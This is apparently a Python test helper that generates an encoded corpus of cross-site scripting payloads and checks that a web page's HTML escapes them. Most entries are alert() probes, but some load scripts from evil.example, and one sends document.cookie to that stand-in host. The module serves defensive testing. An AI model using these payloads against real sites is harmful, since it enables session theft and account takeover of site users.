"""A corpus of cross-site scripting payloads and a checker for the HTML they end up in.

Every payload carries a unique token (``xss<number>qjz``), so that the checker can tell a
payload that became markup from the site's own markup. The token is long enough not to turn
up by chance in the site's own opaque values (a signed confirmation key in a link is
compressed base64; ``xss<number>q`` alone did, once in some ten runs).

The corpus, by kind (KINDS): classic script tags, event handlers on many elements,
``javascript:``/``data:``/``vbscript:`` URLs, web addresses that break out of an attribute,
attribute and tag breakouts, and broken or unclosed markup; each in encoded forms too (HTML
entities, URL encoding, Unicode escapes, mixed case, NUL and whitespace tricks). `sample`
picks a few of every kind, for the tests that post payloads one request at a time.
"""

import html
import urllib.parse
from html.parser import HTMLParser

KINDS = {
    "script tags": [
        "<script>alert('{t}')</script>",
        "<script src=//evil.example/{t}.js></script>",
        "<SCRIPT>alert('{t}')</SCRIPT>",
        "<ScRiPt>alert('{t}')</sCrIpT>",
        "<script>/*{t}*/alert(1)</script>",
        "<script type=module>import('//evil.example/{t}')</script>",
        "</script><script>alert('{t}')</script>",
        "<script\x00>alert('{t}')</script>",
        "<scr<script>ipt>alert('{t}')</scr</script>ipt>",
        "<<script>alert('{t}');//<</script>",
        "<script>eval(atob('{t}'))</script>",
        "<script>document.location='//evil.example/?c='+document.cookie+'{t}'</script>",
    ],
    "event handlers": [
        "<img src=x onerror=alert('{t}')>",
        "<img src=x onerror=\"alert('{t}')\">",
        "<img/src/onerror=alert('{t}')>",
        "<IMG SRC=x OnErRoR=alert('{t}')>",
        "<svg onload=alert('{t}')>",
        "<svg/onload=alert('{t}')>",
        "<body onload=alert('{t}')>",
        "<iframe onload=alert('{t}')></iframe>",
        "<details open ontoggle=alert('{t}')>",
        "<input autofocus onfocus=alert('{t}')>",
        "<select autofocus onfocus=alert('{t}')>",
        "<textarea autofocus onfocus=alert('{t}')>",
        "<video><source onerror=alert('{t}')></video>",
        "<audio src=x onerror=alert('{t}')>",
        "<marquee onstart=alert('{t}')>",
        "<div onmouseover=alert('{t}')>hover</div>",
        "<a onclick=alert('{t}')>click</a>",
        "<object data=x onerror=alert('{t}')>",
        "<math><mtext><img src=x onerror=alert('{t}')></mtext></math>",
        "<svg><animate onbegin=alert('{t}') attributeName=x dur=1s>",
        "<form><button formaction=javascript:alert('{t}')>x</button></form>",
        "<isindex action=javascript:alert('{t}') type=submit>",
        "<body onpageshow=alert('{t}')>",
        "<style onload=alert('{t}')></style>",
        "<keygen autofocus onfocus=alert('{t}')>",
        "<img src=x onerror=&#97;lert('{t}')>",
    ],
    # javascript:, data:, vbscript:
    "script URLs": [
        "javascript:alert('{t}')",
        "JaVaScRiPt:alert('{t}')",
        " javascript:alert('{t}')",
        "java\tscript:alert('{t}')",
        "java\nscript:alert('{t}')",
        "&#106;avascript:alert('{t}')",
        "javascript&colon;alert('{t}')",
        "<a href=\"javascript:alert('{t}')\">link</a>",
        "<a href=javascript:alert('{t}')>link</a>",
        "<a href='jav&#x09;ascript:alert(\"{t}\")'>link</a>",
        "<iframe src=\"javascript:alert('{t}')\"></iframe>",
        "<iframe src=data:text/html,<script>alert('{t}')</script>></iframe>",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{t}">',
        "<embed src=javascript:alert('{t}')>",
        "data:text/html,<script>alert('{t}')</script>",
        "vbscript:msgbox('{t}')",
        "<a href=\"vbscript:msgbox('{t}')\">vb</a>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert('{t}')\">",
        "<base href=javascript:alert('{t}')//>",
        "<link rel=import href=//evil.example/{t}>",
        "<form action=javascript:alert('{t}')><input type=submit>",
        "<svg><a xlink:href=javascript:alert('{t}')><text>x</text></a></svg>",
    ],
    # Web addresses that pass a URL validator but break out of an attribute
    "web addresses": [
        "http://example.com/\"><script>alert('{t}')</script>",
        "https://example.com/?q=<img/src=x/onerror=alert('{t}')>",
        "http://example.com/#'/onmouseover='alert(\"{t}\")'",
        'https://{t}.example/"/onfocus="alert(1)"/autofocus="',
    ],
    "attribute and context breakouts": [
        "\"><script>alert('{t}')</script>",
        "'><script>alert('{t}')</script>",
        "\" onmouseover=\"alert('{t}')",
        "' onmouseover='alert(\"{t}\")",
        '" autofocus onfocus="alert(\'{t}\')" x="',
        "\"/><img src=x onerror=alert('{t}')>",
        "</textarea><script>alert('{t}')</script>",
        "</title><script>alert('{t}')</script>",
        "</style><script>alert('{t}')</script>",
        "--><script>alert('{t}')</script>",
        "]]><script>alert('{t}')</script>",
        "</p></div></article><script>alert('{t}')</script>",
        "{{{{'{t}'.constructor.constructor('alert(1)')()}}}}",
        "${{alert('{t}')}}",
        "{{% raw %}}<script>alert('{t}')</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('{t}')>\">",
        "<style>@import 'javascript:alert(\"{t}\")';</style>",
        "<div style=\"background:url(javascript:alert('{t}'))\">x</div>",
        "<div style=\"width:expression(alert('{t}'))\">x</div>",
        "<x contenteditable onblur=alert('{t}')>lose focus</x>",
        "<template><script>alert('{t}')</script></template>",
        "<plaintext><script>alert('{t}')</script>",
        "<xmp><script>alert('{t}')</script></xmp>",
        "<iframe srcdoc=\"<script>alert('{t}')</script>\"></iframe>",
    ],
    "broken and unclosed markup": [
        "<script>alert('{t}')",
        "<img src=x onerror=alert('{t}')",
        "<svg onload=alert('{t}')//",
        '<img src="x" onerror="alert(\'{t}\')"',
        "<<img src=x onerror=alert('{t}')>>",
        "<img src=`x` onerror=alert('{t}')>",
        '<img """><script>alert(\'{t}\')</script>">',
        '<a href="" onclick=alert(\'{t}\') x="',
        "<b <script>alert('{t}')</script>0",
        "<!--<img src=\"--><img src=x onerror=alert('{t}')//\">",
        "<img src=x:alert(alt) onerror=eval(src) alt='{t}'>",
        "<script>alert(String.fromCharCode(88,83,83))//{t}</script>",
    ],
}
BASE = [payload for payloads in KINDS.values() for payload in payloads]


ENCODINGS = [
    html.escape,  # already entity-encoded
    lambda payload: urllib.parse.quote(payload, safe="{}"),  # URL-encoded
    lambda payload: payload.replace("<", "\\u003c").replace(">", "\\u003e"),  # JS escapes
    lambda payload: payload.replace("<", "&lt;", 1),  # half-encoded
    lambda payload: payload.upper().replace("{T}", "{t}"),  # upper case
]


def _transformations(index, payload):
    """The payload as is, and two encoded forms of it (chosen in turn)."""
    yield payload
    yield ENCODINGS[index % len(ENCODINGS)](payload)
    yield ENCODINGS[(index + 2) % len(ENCODINGS)](payload)


SUFFIX = "qjz"  # ends each token: "xss<number>qjz"


def corpus_by_kind():
    """The corpus by kind of attack (the keys of KINDS): unique payloads, each with its own
    token."""
    seen, variants = set(), []
    bases = [(kind, base) for kind, payloads in KINDS.items() for base in payloads]
    for index, (kind, base) in enumerate(bases):
        for variant in _transformations(index, base):
            if variant in seen or "{t}" not in variant:
                continue
            seen.add(variant)
            variants.append((kind, variant))
    corpus = {kind: [] for kind in KINDS}
    for number, (kind, variant) in enumerate(variants):
        corpus[kind].append(variant.replace("{t}", f"xss{number}{SUFFIX}"))
    return corpus


def build_corpus(minimum=200):
    """Every payload of every kind; at least ``minimum`` of them."""
    payloads = [payload for payloads in corpus_by_kind().values() for payload in payloads]
    assert len(payloads) >= minimum, len(payloads)
    return payloads


def sample(per_kind, every_one_of=()):
    """A few payloads of each kind, spread over the kind so that its encoded forms come
    along; every payload of the kinds named in ``every_one_of``."""
    chosen = []
    for kind, payloads in corpus_by_kind().items():
        if kind in every_one_of:
            chosen += payloads
        else:
            chosen += [payloads[number * len(payloads) // per_kind] for number in range(per_kind)]
    return chosen


def token_of(payload):
    start = payload.lower().index("xss")
    end = payload.lower().index(SUFFIX, start) + len(SUFFIX)
    return payload[start:end].lower()


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "srcdoc",
    "content",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class UnsafeMarkup(AssertionError):
    pass


class _Checker(HTMLParser):
    """Fails when a token shows up anywhere but in text, in an input's value or in a
    link to an http(s) address; and on any script-like URL, whoever wrote it."""

    def __init__(self, tokens):
        super().__init__(convert_charrefs=True)
        self.tokens = tokens
        self.raw_stack = []
        self.problems = []

    def _token_in(self, value):
        value = (value or "").lower()
        return next((token for token in self.tokens if token in value), None)

    def handle_starttag(self, tag, attrs):
        self._check_tag(tag, attrs)
        if tag in ("script", "style"):
            self.raw_stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self._check_tag(tag, attrs)

    def handle_endtag(self, tag):
        if self.raw_stack and self.raw_stack[-1] == tag:
            self.raw_stack.pop()

    def handle_data(self, data):
        if self.raw_stack and self._token_in(data):
            self.problems.append(f"a payload inside <{self.raw_stack[-1]}>: {data[:120]!r}")

    def handle_comment(self, data):
        if self._token_in(data):
            self.problems.append(f"a payload inside an HTML comment: {data[:120]!r}")

    def _check_tag(self, tag, attrs):
        if self._token_in(tag):
            self.problems.append(f"a tag made by a payload: <{tag}>")
        for name, value in attrs:
            value = value or ""
            compact = "".join(ch for ch in value if ch.isprintable() and not ch.isspace()).lower()
            if name in URL_ATTRIBUTES and compact.startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"<{tag} {name}={value[:80]!r}>: a script URL")
            token = self._token_in(value) or self._token_in(name)
            if token is None:
                continue
            allowed = (tag in ("input", "textarea") and name == "value") or (
                tag == "a" and name == "href" and compact.startswith(("http://", "https://"))
            )
            if not allowed:
                self.problems.append(f"<{tag} {name}={value[:80]!r}>: a payload in an attribute")


def assert_safe_html(markup, payloads, where=""):
    """No payload became markup in ``markup``: no tag, attribute, script content or
    script URL of theirs; and none appears verbatim (escaping changes every payload that
    holds one of < > " ' &)."""
    tokens = {token_of(payload) for payload in payloads}
    checker = _Checker(tokens)
    checker.feed(markup)
    checker.close()
    verbatim = [
        payload
        for payload in payloads
        if any(ch in payload for ch in "<>\"'&") and payload in markup
    ]
    problems = checker.problems + [f"verbatim: {payload[:100]!r}" for payload in verbatim]
    if problems:
        raise UnsafeMarkup(f"{where}: {len(problems)} unsafe: " + "; ".join(problems[:10]))
